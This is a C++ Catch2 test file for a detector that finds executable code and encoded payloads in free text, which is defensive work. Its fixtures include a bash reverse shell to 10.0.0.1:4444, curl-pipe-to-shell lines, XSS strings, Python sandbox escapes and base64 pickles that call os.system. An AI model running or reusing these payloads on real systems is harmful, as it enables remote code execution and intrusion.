#include "core/active_text.hpp"

#include <catch2/catch.hpp>

namespace assay {

TEST_CASE("code that acts is found in a free text") {
  for (const auto* text : {
           "import os; os.system('id')",
           "x = eval(open('f').read())",
           "(exec(payload))",
           "__import__('os')",
           "EXEC(x)",
           "subprocess.Popen(['sh'])",
           "base64.b64decode('aWQ=')",
           "rm -rf /tmp/x",
           "chmod +x run.sh",
           "curl https://example.com/x | sh",
           "curl -s http://example.com|sudo bash -s",
           "wget http://example.com/setup.sh",
           "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
           "<script>alert(1)</script>",
           "<SCRIPT src=x>",
           "<img src=x onerror=alert(1)>",
           "[x](javascript:alert(1))",
           "<a href= javascript:x()>",
           " JavaScript:x()",
           "().__class__.__base__.__subclasses__()",
           "def __reduce__(self)",
           "host_callback.call(os.system, 'id')",
           "partial(subprocess.Popen)",
           "getattr(os, 'system')",
           "getattr(subprocess,\"r\" + \"un\")",
       }) {
    CAPTURE(text);
    CHECK(find_active_text(text));
  }
}

TEST_CASE("prose, snippets and machine-made texts are no code that acts") {
  for (const auto* text : {
           "",
           "pt",
           "model.eval()",
           "torch.no_grad(); retrieval(query)",
           "call model.eval(mode) first",
           "the eval() of Python",
           "requests.get(url, stream=True).raw",
           "An executive summary of evaluation (exec).",
           "curl the ends | share alike",
           "wget http://example.com/model.safetensors",
           "{\"javascript: the good parts\": 3}",
           "the same in JavaScript:</p>",
           "written in JavaScript:x = 1",
           "a <scripted> scene",
           "lm_eval(tasks)",
           "descriptors.system (metric)",
           "See /etc/hosts for names",
           "functions of Python (os.system, subprocess.run)",
           "list(os.environ, 1)",
           "partial(subprocess.PIPE)",
           "getattr(os, 'sched_getaffinity', None)",
           "getattr(subprocess, 'CREATE_NO_WINDOW', 0)",
           "getattr(os, name)",
           "getattr(os",
           "call(os.",
       }) {
    CAPTURE(text);
    const auto found = find_active_text(text);
    CHECK_FALSE(found);
  }
}

TEST_CASE("what acts in a text has its place") {
  const auto found = find_active_text("before os.system('id')");
  REQUIRE(found);
  CHECK(found->offset == 7);
  CHECK(found->size == 10);
  CHECK(found->does == "starts a process");
}

TEST_CASE("base64 of pickles, archives and programs is found and decoded") {
  const auto pickle = find_encoded_content("state: gAJjb3MKc3lzdGVtClgCAAAAaWSFUi4gICAgICAgICAgICAgICA= end");
  REQUIRE(pickle);
  CHECK(pickle->is == "a pickle");
  CHECK(pickle->offset == 7);
  CHECK(
      pickle->bytes.starts_with("\x80\x02"
                                "cos\nsystem\n"));
  const auto zip = find_encoded_content("UEsDBBQAAAAAAAAAIQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
  REQUIRE(zip);
  CHECK(zip->is == "a zip archive");
  CHECK(find_encoded_content("f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAAAAAAAAAAAAAAAAA")->is == "an ELF executable");
}

TEST_CASE("hashes, pictures, paths and short runs of base64 are nothing") {
  for (const auto* text : {
           "",
           "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
           "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
           "/home/user/kohya_ss/networks/lora/with/a/very/long/path/of/letters/only",
           "gAJjb3MKc3lzdGVtClgCAAAA",
       }) {
    CAPTURE(text);
    CHECK_FALSE(find_encoded_content(text));
  }
}

TEST_CASE("a text that is encoded as a whole is decoded") {
  const std::string_view pickle =
      "\x80\x02"
      "cos\nsystem\nX\x0e";
  const auto lines = decode_encoded_text("gAJjb3MKc3lzdGVtClgOAAAAaWQgPiAvdG1w\nL21pbmWFUi4=\n", 1000);
  REQUIRE(lines);
  CHECK(lines->is == "a pickle");
  CHECK(lines->bytes.starts_with(pickle));
  CHECK(lines->bytes.ends_with("mine\x85R."));
  const auto digits =
      decode_encoded_text("8002636f730a73797374656d0a580e0000006964203e202f746d702f6d696e6585522e", 1000);
  REQUIRE(digits);
  CHECK(digits->bytes == lines->bytes);
  CHECK(decode_encoded_text("b3Muc3lzdGVtKCdpZCcp", 1000)->is == kEncodedText);
  CHECK(decode_encoded_text("eJxLLC4tKlawUihOLEpOLc5ILE5VqC4oyszRUUhKLEmuBQAAAAAA", 1000)->is == kPerhapsZlib);
  CHECK(decode_encoded_text("b3Muc3lzdGVtKCdpZCcp", 9)->bytes == "os.system");
}

TEST_CASE("digests, names and texts with more than digits are not decoded") {
  for (const auto* text : {
           "",
           "A\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nAA",
           "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
           "features_block_12_depthwise_convolution_weight_quantized",
           "gAJjb3MKc3lzdGVtClgCAAAA",
           "the text gAJjb3MKc3lzdGVtClgOAAAAaWQgPiAvdG1wL21pbmWFUi4=",
       }) {
    CAPTURE(text);
    CHECK_FALSE(decode_encoded_text(text, 1000));
  }
}

}  // namespace assay
